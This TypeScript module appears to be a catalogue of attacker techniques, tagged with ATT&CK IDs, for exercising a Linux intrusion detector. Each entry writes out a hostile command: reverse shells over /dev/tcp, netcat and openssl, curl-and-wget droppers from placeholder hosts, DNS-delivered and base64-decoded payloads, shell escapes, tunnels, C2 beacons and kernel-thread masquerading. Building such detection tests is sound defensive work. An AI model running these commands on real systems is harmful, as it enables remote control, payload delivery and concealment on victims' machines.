/**
 * Techniques by which intruders come in, run their programs, and keep the connection to them.
 *
 * @module
 */
import { type Technique, WWW_DATA } from "./technique.ts";

const DISCOVERY = [
  "id",
  "whoami",
  "uname -a",
  "hostname",
  "ip addr",
  "ss -tulpn",
  "ps aux",
  "last -5",
  "df -h",
  "lscpu",
  "mount",
];

export const EXECUTION: readonly Technique[] = [
  {
    name: "Reverse shell of bash over /dev/tcp",
    id: "T1059.004",
    steps: [{ run: "bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'", real: true }],
  },
  {
    name: "Reverse shell of Python",
    id: "T1059.006",
    steps: [{
      run: 'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",{port}));' +
        '[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("/bin/true")\'',
      real: true,
    }],
  },
  { name: "Reverse shell through netcat", id: "T1095", steps: ["nc -e /bin/sh 203.0.113.9 4444"] },
  {
    name: "Reverse shell through a named pipe and openssl",
    id: "T1573.002",
    steps: [
      "sh -c 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s'",
    ],
  },
  { name: "Shell on a socket", id: "T1059.004", steps: [{ run: "sh -i", stdin: "socket" }] },
  {
    name: "Terminal made for a shell on a pipe",
    id: "T1059.004",
    uid: WWW_DATA,
    steps: [{ run: "script -qc /bin/bash /dev/null", stdin: "pipe" }],
  },
  { name: "Download piped into a shell", id: "T1105", steps: ["sh -c 'curl -fsSL http://203.0.113.9/x.sh | sh'"] },
  {
    name: "Download, then execution",
    id: "T1105",
    steps: ["curl -so {dir}/bin/stage2 http://203.0.113.9/stage2", "chmod 755 {dir}/bin/stage2", "{dir}/bin/stage2 -d"],
  },
  {
    name: "Dropper in shared memory that cleans up",
    id: "T1070.004",
    steps: ["wget -qO {shm}/k http://203.0.113.9/k", "chmod 700 {shm}/k", "{shm}/k --daemon", "rm -f {shm}/k"],
  },
  { name: "Download into a hidden place", id: "T1564.001", steps: ["curl -fsSL -o /dev/shm/.k http://203.0.113.9/.k"] },
  {
    name: "Download by a line of Python",
    id: "T1059.006",
    steps: ["python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://203.0.113.9/p\").read())'"],
  },
  { name: "Download from a bare address", id: "T1071.001", steps: ["wget -q http://198.51.100.7:8080/kinsing -O k"] },
  { name: "Second stage from a paste site", id: "T1102", steps: ["curl -fsSL https://pastebin.com/raw/Ab12Cd"] },
  {
    name: "Commands out of name lookups",
    id: "T1071.004",
    steps: ["bash -c 'dig +short TXT c.example.net | tr -d x | base64 -d | bash'"],
  },
  { name: "Base64 into a shell", id: "T1027", steps: [{ run: "sh -c 'echo ZXhpdAo= | base64 -d | sh'", real: true }] },
  {
    name: "Decoded by an interpreter",
    id: "T1140",
    steps: [{ run: "python3 -c 'import base64;exec(base64.b64decode(\"cGFzcw==\"))'", real: true }],
  },
  { name: "Program run from shared memory", id: "T1204.002", steps: ["{shm}/kinsing"] },
  { name: "Program run from memory", id: "T1620", steps: [{ run: "agent -d", from: "memory" }] },
  {
    name: "Deleted programs, one after the other",
    id: "T1070.004",
    steps: Array.from({ length: 5 }, (_, i) => ({ run: `a${i} -q`, from: "deleted" as const })),
  },
  {
    name: "Anonymous file from a line of Perl",
    id: "T1620",
    steps: ['perl -e \'$f=syscall(319,"",1);open($h,">&=".$f);print $h <STDIN>;exec {"/proc/$$/fd/$f"} "x"\''],
  },
  { name: "Web server starts a shell", id: "T1505.003", parent: "apache2", steps: ["sh -c whoami"] },
  {
    name: "Java application starts a shell",
    id: "T1190",
    parent: "java",
    steps: ["bash -c '{echo,aWQ=}|{base64,-d}|{bash,-i}'"],
  },
  {
    name: "Server crashes until a shell starts",
    id: "T1203",
    parent: "vsftpd",
    steps: [{ run: "vsftpd -o worker", times: 5, exit: -11 }, "sh -c id"],
  },
  {
    name: "Web shell looks around",
    id: "T1082",
    uid: WWW_DATA,
    parent: "php-fpm8.2",
    steps: ["whoami", "uname -a", "ps aux", "ss -tlnp", "hostname"],
  },
  {
    name: "Shell escape of an editor",
    id: "T1059.004",
    steps: [{ run: "vim -c ':!/bin/sh'", steps: ["sh -c /bin/sh"] }],
  },
  { name: "Shell escape of find", id: "T1548.001", steps: [{ run: "find . -exec /bin/sh -p ; -quit", steps: ["sh"] }] },
  {
    name: "Shell escape of tar",
    id: "T1218",
    steps: [{ run: "tar cf /dev/null bin --checkpoint=1 --checkpoint-action=exec=/bin/true", real: true }],
  },
  {
    name: "Shell escape of a package tool",
    id: "T1548.003",
    steps: ["apt-get update -o APT::Update::Pre-Invoke::=/bin/sh"],
  },
  {
    name: "Program run by the loader",
    id: "T1218",
    steps: [{ run: "/lib64/ld-linux-x86-64.so.2 /tmp/agent -d", file: "ld-linux-x86-64.so.2" }],
  },
  { name: "Tunnel out of the network", id: "T1572", steps: ["chisel client 203.0.113.9:443 R:socks"] },
  { name: "Tunnel through name lookups", id: "T1071.004", steps: ["iodine -f -P zz t.example.net"] },
  {
    name: "Reverse tunnel of ssh that asks nobody",
    id: "T1133",
    steps: ["ssh -fN -o StrictHostKeyChecking=no -R 31337:127.0.0.1:22 u@203.0.113.9"],
  },
  {
    name: "Traffic through Tor",
    id: "T1090.003",
    steps: ["curl -s --socks5-hostname 127.0.0.1:9050 http://abcdefgh.onion/int"],
  },
  {
    name: "The same request, again and again",
    id: "T1071.001",
    steps: [{ run: "curl -s https://c2.example.net/task?h=web1", times: 16 }],
  },
  { name: "Terminal shared with strangers", id: "T1219", steps: ["tmate -F"] },
  { name: "Framework of control", id: "T1219", steps: ["sliver-server daemon"] },
  { name: "Callback of a probe", id: "T1190", steps: ["curl http://c23b2la0kl1krjcrdj10.oast.fun"] },
  ...hidden(),
];

/** Those that only hide what runs. */
function hidden(): Technique[] {
  return [
    { name: "Program with a hidden name", id: "T1564.001", steps: ["./.x"] },
    {
      name: "Program that calls itself a kernel thread",
      id: "T1036.004",
      steps: [{ run: "[kworker/0:1]", file: "x" }],
    },
    { name: "Daemon's name in the wrong place", id: "T1036.005", steps: ["systemd-journald --flush"] },
    { name: "Name changed by a shell", id: "T1036.011", steps: ["bash -c 'exec -a [kworker/0:0] /tmp/.x/agent'"] },
    { name: "Ten tools of discovery in a minute", id: "T1033", steps: DISCOVERY },
  ];
}
